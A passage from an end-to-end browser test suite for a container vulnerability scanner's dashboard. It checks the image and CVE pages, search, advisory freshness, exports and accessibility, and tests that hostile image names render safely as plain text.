  is(/^Runs as \S+/.test(says) && /known to be exploited/.test(says) && /that (is|are) loaded/.test(says), `the sentence: ${says}`);
  const ranks = await page.$$eval(".findings tbody", (l) => l.length);
  same(ranks, 100, "the first page of vulnerabilities");
  await page.click(".opener button");
  await page.waitForSelector(".finding-detail");
  const detail = await page.innerText(".finding-detail");
  for (const part of ["use", "fixed in", "found at", "layer", "vector", "why here", "references", "detected here", "also known as"]) is(detail.includes(part), `the detail lacks ${part}: ${detail}`);
  is(/loaded \d+ m ago: \S+|not seen loaded in .* of watching/.test(detail), `use is not told with since when: ${detail}`);
  same(await page.$$eval(".finding-detail .refs a", (l) => l.length > 0 && l.every((a) => a.rel.includes("noreferrer") && a.target === "_blank")), true, "a reference tells where it was clicked");
  await axe(page, "one image");
  await page.click(".table-bar .chip >> text=Known exploited");
  await page.waitForFunction(() => decodeURIComponent(location.search).includes("q=kev:yes"));
  await page.waitForFunction(() => document.querySelector(".findings tbody") && [...document.querySelectorAll(".findings tbody")].every((b) => b.querySelector(".kev")));
  await page.click(".table-bar .chip >> text=Known exploited");
  await page.waitForFunction(() => !location.search.includes("q="));
  await page.click("th >> text=CVSS");
  await page.waitForFunction(() => { const l = [...document.querySelectorAll(".findings tbody > tr:first-child > td:nth-child(7)")].map((c) => Number(c.textContent)); return l.length > 5 && l.every((n, i) => i === 0 || l[i - 1] >= n); });
  await page.click("text=Show more");
  await page.waitForFunction(() => document.querySelectorAll(".findings tbody").length > 100);
  const csv = (await exportOf(page, "CSV")).split("\r\n");
  is(/^id,severity,package/.test(csv[0]), `the export's columns: ${csv[0]}`);
  const parts = await page.$$eval("[role=tab]", (l) => l.map((t) => t.id));
  await page.focus("[role=tab][aria-selected=true]");
  for (let i = 1; i < parts.length; i++) {
    await page.keyboard.press("ArrowRight");
    await page.waitForFunction((id) => document.getElementById(id)?.getAttribute("aria-selected") === "true" && document.activeElement?.id === id, parts[i]);
    is((await page.innerText("[role=tabpanel]")).trim().length > 10, `the part ${parts[i]} says nothing`);
    await page.waitForFunction(() => !document.querySelector("[role=tabpanel] .skeleton"));
    await axe(page, `one image, part ${i}`);
    await shot(page, `image-part-${i}`);
  }
  await page.goto(`${base}/images/sha256:${"0".repeat(64)}`);
  await page.waitForSelector("text=This image has not been seen here");
  is(await page.isVisible("text=dockreeve scan IMAGE --server"), "no command says what to do");
  await page.goto(`${base}/images/%E0%A4%A`);
  await page.waitForSelector("text=This image has not been seen here");
  await context.close();
}, { mockOnly: true });

test("an alert names its image, and the way goes there", async () => {
  const { context, page } = await open();
  const { id } = await raise();
  await page.goto(`${base}/alerts/${id}`);
  await page.waitForSelector("#s-ctr");
  await page.click('section[aria-labelledby="s-ctr"] a[href^="/images/sha256:"]');
  await page.waitForSelector(".image h1");
  is(/storefront/.test(await page.innerText(".kicker")), "another image opened");
  await context.close();
}, { mockOnly: true });

test("vulnerabilities: one row each over all images, chips, order, and how fast they go", async () => {
  const { context, page } = await open();
  await page.goto(base + "/vulnerabilities");
  await ready(page);
  is((await rows(page)).every((r) => r.h === 32), "a row is not 32 px");
  is(Number((await page.innerText(".counts b")).replace(/\D/g, "")) > 4000, "there are too few to show anything");
  same(await page.evaluate(() => { const g = document.querySelector(".grid"); return g.scrollWidth <= g.clientWidth; }), true, "the columns at first do not fit in 1280 px");
  await page.click("role=columnheader >> text=EPSS");
  await page.waitForFunction(() => location.search.includes("order=epss"));
  await page.waitForFunction(() => { const l = [...document.querySelectorAll(".grid-body .c-epss")].map((c) => parseFloat(c.textContent)); return l.length > 5 && l.every((n, i) => i === 0 || l[i - 1] >= n); });
  await page.click(".chip >> text=Known exploited");
  await page.waitForFunction(() => [...document.querySelectorAll(".grid-body .grid-row")].length > 0 && [...document.querySelectorAll(".grid-body .grid-row")].every((r) => r.querySelector(".kev")));
  const csv = (await exportOf(page, "CSV")).split("\r\n");
  is(csv[0].startsWith("severity,id,title,known_exploited") && csv.length > 2 && csv.slice(1, -1).every((l) => /,yes,/.test(l)), `the export: ${csv[0]}`);
  await page.click(".clocks");
  await page.waitForSelector("dialog[open]");
  const table = await page.innerText("dialog[open]");
  is(/Closed/.test(table) && /Open/.test(table) && /Gone/.test(table) && /unowned/.test(table) && /which is all that has been watched/.test(table), `remediation lacks a part: ${table}`);
  await axe(page, "remediation");
  await shot(page, "remediation");
  await page.keyboard.press("Escape");
  const before = (await rows(page)).map((r) => r.id);
  const [looked] = await Promise.all([page.waitForResponse((r) => r.url().endsWith("/ListVulnerabilities")), drive("scan")]);
  await looked.finished();
  await page.evaluate(() => new Promise((f) => requestAnimationFrame(() => requestAnimationFrame(f))));
  same((await rows(page)).map((r) => r.id), before, "rows moved");
  await context.close();
}, { mockOnly: true });

test("one vulnerability: every image, workload and owner; and an honest no", async () => {
  const { context, page } = await open({ height: 900 });
  await page.goto(base + "/vulnerabilities?q=kev:yes+running:yes+in_use:yes");
  await ready(page);
  const id = await first(page);
  await page.keyboard.press("j"); await page.keyboard.press("Enter");
  await page.waitForSelector(".affected tbody");
  same(new URL(page.url()).pathname, `/vulnerabilities/${id}`, "its address");
  is(/^Known to be exploited; in \d+ images?, \d+ of them running as \S+/.test((await page.innerText(".says")).replace(/\u202f/g, "")), `the sentence: ${await page.innerText(".says")}`);
  const text = await page.innerText(".page");
  for (const part of ["ever seen assessed", "running images assessed", "advisories", "unowned", "Fixed in", "Owner", "Runs as"]) is(text.includes(part), `${part} is missing`);
  await axe(page, "one vulnerability");
  const table = JSON.parse(await exportOf(page, "JSON"));
  is(table.length > 0 && table.every((r) => r.id === id && r.image !== undefined && r.owner), "the export lacks owners");
  await page.click(".affected .img a");
  await page.waitForSelector(".image h1");
  await page.goto(base + "/vulnerabilities/CVE-2014-0160");
  await page.waitForSelector("h1");
  is(/None of \d+ assessed images has CVE-2014-0160/.test(await page.innerText("h1")) && /could not be assessed/.test(await page.innerText(".page")), `a no without what stands behind it: ${await page.innerText(".page")}`);
  await axe(page, "not affected");
  await shot(page, "vulnerability-none");
  await page.goto(base + "/vulnerabilities/CVE-1999-99999");
  await page.waitForSelector("h1 >> text=do not know");
  is(/says nothing about whether you are affected/.test(await page.innerText(".page")), "not known is told as not affected");
  await drive("advisories?state=missing");
  await page.waitForSelector("h1 >> text=is not assessed");
  await drive("advisories?state=good");
  await context.close();
}, { mockOnly: true });

test("search: a CVE's id goes to its page, an image's name to the image", async () => {
  const { context, page } = await open();
  await page.goto(base + "/health");
  await page.waitForSelector("text=Hops");
  await page.keyboard.press("Control+k");
  await page.keyboard.type("cve-2014-0160");
  await page.waitForSelector(".hit >> text=Are we affected by");
  await page.keyboard.press("Enter");
  await page.waitForFunction(() => location.pathname === "/vulnerabilities/CVE-2014-0160");
  await page.waitForSelector("h1");
  await page.keyboard.press("Control+k");
  await page.keyboard.type("settlement");
  await page.waitForSelector(".hit .sevs");
  await axe(page, "search of images");
  await shot(page, "search-images");
  await page.click(".hit:has(.sevs)");
  await page.waitForSelector(".image h1");
  await context.close();
}, { mockOnly: true });

test("advisories: their age, feeds and failures, told in the honesty bar too", async () => {
  const { context, page } = await open();
  for (const [state, want] of [["good", /3 h old of 7 d allowed/], ["stale", /older than the 7 d allowed/i], ["failed", /The last update failed: osv\/npm/], ["missing", /There is no advisory database/]]) {
    await drive(`advisories?state=${state}`);
    await page.goto(base + "/advisories");
    await page.waitForSelector(".advisory-state");
    const text = await page.innerText(".page");
    is(want.test(text.replace(/\s+/g, " ")), `${state}: ${text}`);
    is(/dockreeve db update/.test(text) && /dockreeve db import/.test(text), "a command is missing");
    const amber = await page.$(".honesty dl div:has(a[href=\"/advisories\"]) .amber");
    is((amber !== null) === (state !== "good"), `${state}: the honesty bar ${amber ? "is" : "is not"} amber`);
    await axe(page, `advisories ${state}`);
    await shot(page, `advisories-${state}`);
  }
  await page.click(".honesty dl a[href=\"/advisories\"]");
  await drive("advisories?state=good");
  await page.waitForSelector(".advisory-state.good");
  await context.close();
}, { mockOnly: true });

test("images: hostile names are text on every screen", async () => {
  const { context, page } = await open();
  const { key } = await drive("hostile-image");
  await page.goto(base + "/images?order=first_seen");
  await page.waitForSelector(`[data-id="${key}"]`);
  is((await rows(page)).every((r) => r.h === 32), "a long name changes a row's height");
  for (const part of ["vulnerabilities", "packages", "layers", "secrets", "configuration", "history", "running", "gates", "not-assessed"]) {
    await page.goto(`${base}/images/${key}?tab=${part}`);
    await page.waitForSelector("[role=tabpanel]");
    await page.waitForFunction(() => !document.querySelector("[role=tabpanel] .skeleton"));
    if (part === "vulnerabilities") { await page.click(".opener button"); same(await page.$$eval(".refs a", (l) => l.map((a) => new URL(a.href).protocol)), [], "a reference that is no plain web address is a link"); }
    same((await page.$$("main img, main script, main iframe")).length, 0, `${part}: markup became elements`);
    same(await page.evaluate(() => /[\u202e\u0000]/.test(document.querySelector("main").innerHTML)), false, `${part}: a character that turns the text round is not shown as one`);
    await fits(page, part);
  }
  await page.click(`a[href^="/vulnerabilities"] >> nth=0`);
  await page.goto(base + "/vulnerabilities?q=title:*onerror*");
  await ready(page);
  await page.keyboard.press("j"); await page.keyboard.press("Enter");
  await page.waitForSelector(".affected tbody");
  same((await page.$$("main img, main script")).length, 0, "markup became elements");
  await fits(page, "one hostile vulnerability");
  await context.close();
}, { mockOnly: true });

test("images and vulnerabilities in light, dark and small, without serious findings", async () => {
  for (const scheme of ["light", "dark"]) for (const size of [{ width: 1280, height: 720 }, { width: 390, height: 844, scale: 2 }]) {
    const { context, page } = await open({ scheme, ...size });
    const small = size.width === 390 ? "small-" : "";
    for (const name of ["images", "vulnerabilities", "advisories"]) {
      await page.goto(`${base}/${name}`);
      await page.waitForSelector(name === "advisories" ? "table.plain tbody tr" : ".grid-row[data-id]");
      if (name === "vulnerabilities") await page.waitForSelector(".clocks");
      await fits(page, name);
      await axe(page, `${name} ${small}${scheme}`);
      await shot(page, `${name}-${small}${scheme}`);
      if (name === "advisories") continue;
      await page.goto(`${base}/${name}/${await first(page)}`);
      await page.waitForSelector(name === "images" ? ".findings tbody" : ".affected tbody");
      await fits(page, `one of ${name}`);
      await axe(page, `one of ${name} ${small}${scheme}`);
      await shot(page, `${name === "images" ? "image" : "vulnerability"}-${small}${scheme}`);
    }
    await context.close();
  }
}, { mockOnly: true });

test("no image at all teaches the next step", async () => {
  const { context, page } = await open();
  await drive("images-empty");
  await drive("advisories?state=missing");
  await page.goto(base + "/images");
  await page.waitForSelector(".empty");
  const text = await page.innerText(".empty");
  is(/scanned by themselves/.test(text) && /dockreeve scan IMAGE --server/.test(text) && /dockreeve db update/.test(text), `the next step is not taught: ${text}`);
  await axe(page, "no images");
  await shot(page, "images-empty");
  await page.goto(base + "/vulnerabilities");
  await page.waitForSelector(".empty >> text=Nothing was matched");
  await page.waitForSelector(".clocks-note >> text=not assessed");
  await axe(page, "no vulnerabilities");
  await page.goto(base + "/vulnerabilities/CVE-2014-0160");
  await page.waitForSelector("h1 >> text=is not assessed");
  await context.close();
}, { mockOnly: true });

part = "governance";
governance({ test, open, drive, base, ready, rows, axe, shot, is, same, fits, exportOf, results });
part = "clusters";
clusters({ test, open, drive, base, ready, rows, axe, shot, is, same, fits, exportOf });

if (tenantOnly) {
  tests.length = 0;
  tenant({ test, open, base, link, keep: async (context) => { session = await context.cookies(); }, ready, rows, axe, shot, is, same, fits, exportOf, results });
}
const others = process.env.PART?.startsWith("!");
const parts = process.env.PART ? process.env.PART.slice(others ? 1 : 0).split(",") : null;
for (const p of parts ?? []) if (!tests.some((t) => t.part === p)) throw new Error(`PART names ${p}, and no test is of it`);
const only = process.env.ONLY;
let failed = 0;
for (const t of tests) {
  const entry = t.name.startsWith("the sign-in"); // the others need its session
  if ((only && !t.name.includes(only) || parts && parts.includes(t.part) === others) && !entry) continue;
  const needsRaise = t.name.startsWith("live changes") && !raise;
  if ((t.mockOnly && !mock) || needsRaise) {
    console.log(`skip  ${t.name}: ${needsRaise ? "DOCKREEVE_RAISE is not set" : "drives the development server"}`);
    results.tests.push({ name: t.name, outcome: "skip" });
    continue;
  }
  strays.length = faults.length = 0;
  const started = performance.now();
  if (mock) { await drive("down?v=0"); await drive("watched?v=1"); await drive("gaps?v=1"); await drive("advisories?state=good"); }
  try {
    await t.f();
    is(strays.length === 0, `requests left the origin: ${strays}`);
    is(faults.length === 0, `the page complained: ${faults}`);
    console.log(`ok    ${t.name} (${((performance.now() - started) / 1000).toFixed(1)} s)`);
    results.tests.push({ name: t.name, outcome: "pass" });
  } catch (err) {
    failed++;
    console.log(`FAIL  ${t.name}\n      ${String(err.stack ?? err).split("\n").slice(0, 12).join("\n      ")}`);
    for (const c of browser.contexts()) for (const p of c.pages()) await p.screenshot({ path: join(out, `failed-${failed}.png`) }).catch(() => undefined);
    results.tests.push({ name: t.name, outcome: "fail", why: String(err) });
  }
  for (const c of browser.contexts()) await c.close();
}
writeFileSync(join(out, "results.json"), JSON.stringify(results, null, 2) + "\n");
for (const [k, v] of Object.entries(results.measured)) if (typeof v === "number") console.log(`      ${k}: ${v}`);
await browser.close();
mock?.close();
console.log(failed ? `${failed} failed` : "all passed");
process.exit(failed ? 1 : 0);
